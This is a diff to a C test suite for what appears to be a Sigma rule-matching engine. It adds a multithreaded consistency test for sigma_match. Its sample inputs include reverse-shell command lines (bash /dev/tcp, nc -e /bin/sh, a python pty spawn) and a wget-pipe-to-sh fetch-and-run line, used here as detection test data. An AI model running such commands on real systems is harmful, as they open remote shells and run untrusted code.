@@ -6,6 +6,7 @@
 
 #include <ctype.h>
 #include <jansson.h>
+#include <pthread.h>
 #include <sys/stat.h>
 #include <unistd.h>
 
@@ -946,6 +947,58 @@ static void test_filters_equivalent(void **state) {
     sigma_rules_free(rs);
 }
 
+
+/* sigma_match from several threads at once on one rule set (regex scratch
+ * is per call): every thread sees the answers of a single-threaded run. */
+typedef struct mt_job {
+    sigma_rules *rs;
+    const char *const *cmds;
+    int n;
+    const int *want;
+    int bad;
+} mt_job;
+
+static void *mt_run(void *p) {
+    mt_job *j = p;
+    for (int round = 0; round < 200; round++)
+        for (int i = 0; i < j->n; i++) {
+            kv e = {{"CommandLine"}, {j->cmds[i]}, 1};
+            sigma_event_view v = {kv_get, &e, j->cmds[i], strlen(j->cmds[i]), NULL, "process_creation", NULL};
+            if (sigma_match(j->rs, &v, NULL, 0) != j->want[i]) j->bad++;
+        }
+    return NULL;
+}
+
+static void test_threads(void **state) {
+    (void)state;
+    static const char *cmds[] = {
+        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "ls -la", "nc -e /bin/sh 10.0.0.1 4242",
+        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "wget -O - http://x/y | sh", "git status",
+    };
+    int err;
+    sigma_rules *rs = sigma_rules_new(&err);
+    assert_true(sigma_load_path(rs, "rules/nightjar") > 0);
+    int want[NJ_ARRAY_LEN(cmds)], any = 0;
+    for (size_t i = 0; i < NJ_ARRAY_LEN(cmds); i++) {
+        kv e = {{"CommandLine"}, {cmds[i]}, 1};
+        sigma_event_view v = {kv_get, &e, cmds[i], strlen(cmds[i]), NULL, "process_creation", NULL};
+        want[i] = sigma_match(rs, &v, NULL, 0);
+        any += want[i] > 0;
+    }
+    assert_true(any >= 4);
+    pthread_t t[4];
+    mt_job jobs[4];
+    for (int i = 0; i < 4; i++) {
+        jobs[i] = (mt_job){rs, cmds, (int)NJ_ARRAY_LEN(cmds), want, 0};
+        assert_int_equal(pthread_create(&t[i], NULL, mt_run, &jobs[i]), 0);
+    }
+    for (int i = 0; i < 4; i++) {
+        pthread_join(t[i], NULL);
+        assert_int_equal(jobs[i].bad, 0);
+    }
+    sigma_rules_free(rs);
+}
+
 /* SigmaHQ's own rules, when a checkout is named by NIGHTJAR_SIGMA_DIR (its
  * root or its rules/ folder; scripts/sigma-rules says how to get one): at
  * least 95% of the three folders nightjar's sources feed must load, and the
@@ -1106,6 +1159,7 @@ int main(void) {
         cmocka_unit_test(test_pack_benign),
         cmocka_unit_test(test_pack_attacks),
         cmocka_unit_test(test_filters_equivalent),
+        cmocka_unit_test(test_threads),
         cmocka_unit_test(test_sigmahq),
         cmocka_unit_test(test_load_oom),
         cmocka_unit_test(test_dir_oom),
